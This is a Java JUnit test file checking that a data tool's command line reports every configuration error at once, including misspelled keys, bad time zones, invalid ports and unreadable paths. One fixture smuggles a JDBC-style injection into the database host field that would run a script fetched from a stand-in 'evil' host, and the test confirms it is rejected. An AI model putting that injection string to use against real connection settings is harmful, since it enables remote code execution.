package io.tidemark.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.tidemark.testing.Export;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import picocli.CommandLine;

/** What is wrong with a command is told at once, before Spark is started and a file is read. */
class SettingsErrorsTest {
  @TempDir private Path folder;

  private record Outcome(int exitCode, List<String> talk) {}

  @ParameterizedTest
  @ValueSource(strings = {"check", "run"})
  void everythingThatIsWrongIsALine(String command) {
    String policy =
        Export.write(
            folder,
            "policy.yaml",
            "histroy: invoiced",
            "business_time_zone: Europe/Wien",
            "relational:",
            "  host: localhost/x;INIT=RUNSCRIPT FROM 'http://evil'",
            "  port: 0");
    String profile =
        Export.write(folder, "own.yaml", "invoices: {invoice: number}", "customers: {}");

    Outcome outcome =
        tidemark(
            command,
            "--policy",
            policy,
            "--set",
            "renewal_grace_days=three",
            "--source",
            profile,
            "--invoices",
            folder.resolve("no invoices.csv").toString(),
            "--customers",
            folder.resolve("none*.csv").toString());

    assertThat(outcome.exitCode()).isEqualTo(2);
    assertThat(outcome.talk())
        .startsWith("CONFIG_INVALID: 18 problems with the command")
        .contains(
            "histroy: no such key; did you mean history?",
            "business_time_zone: \"Europe/Wien\" must be a time zone such as UTC or Europe/Vienna",
            "relational.host: \"localhost/x;INIT=RUNSCRIPT FROM 'http://evil'\" must be a host name"
                + " or an IPv4 address",
            "relational.port: \"0\" must be a port from 1 to 65535",
            "renewal_grace_days: \"three\" must be a whole number of days from 0 to 60",
            "invoices.invoice: no such field; did you mean invoice_id?",
            "customers.customer_id: must list at least one header")
        .anyMatch(
            line -> line.startsWith("PATH_UNREADABLE: cannot read") && line.contains("no inv"))
        .anyMatch(line -> line.startsWith("PATH_UNREADABLE: cannot read") && line.contains("none*"))
        .endsWith(
            "Correct all of them. conf/tidemark.yaml documents the settings, --help the options.")
        .hasSize(20);
  }

  @Test
  void aPolicyThatIsNoYamlHidesNoOtherProblem() {
    String policy = Export.write(folder, "policy.yaml", "history: \"implied");

    Outcome outcome = tidemark("check", "--policy", policy, "--set", "amount=gross");

    assertThat(outcome.exitCode()).isEqualTo(2);
    assertThat(outcome.talk())
        .hasSize(4)
        .anyMatch(line -> line.contains("policy.yaml, line 1: while scanning"))
        .contains("amount: \"gross\" must be net or before_discount");
  }

  /** A path is part of the command line: 2, as interface and launcher say; a file's content: 3. */
  @ParameterizedTest
  @ValueSource(strings = {"check", "run"})
  void aPathThatLeadsNowhereIsAWrongCommandLine(String command) {
    String missing = folder.resolve("missing.csv").toString();

    Outcome outcome = tidemark(command, "--invoices", missing);

    assertThat(outcome.exitCode()).isEqualTo(2);
    assertThat(outcome.talk())
        .containsExactly(
            "PATH_UNREADABLE: cannot read " + missing,
            "The file does not exist.",
            "Check the path and its permissions. Paths are relative to the current directory.");
  }

  @Test
  void customersAloneAreNotEnough() {
    String missing = folder.resolve("missing.csv").toString();

    Outcome outcome = tidemark("check", "--customers", missing);

    assertThat(outcome.exitCode()).isEqualTo(2);
    assertThat(outcome.talk())
        .anyMatch(line -> line.contains("--customers without --invoices"))
        .anyMatch(line -> line.contains("cannot read " + missing));
  }

  private static Outcome tidemark(String... arguments) {
    StringWriter talk = new StringWriter();
    CommandLine commandLine = Commands.commandLine().setErr(new PrintWriter(talk));
    int exitCode = ErrorHandler.guard(commandLine, arguments);
    return new Outcome(exitCode, new ArrayList<>(talk.toString().lines().toList()));
  }
}
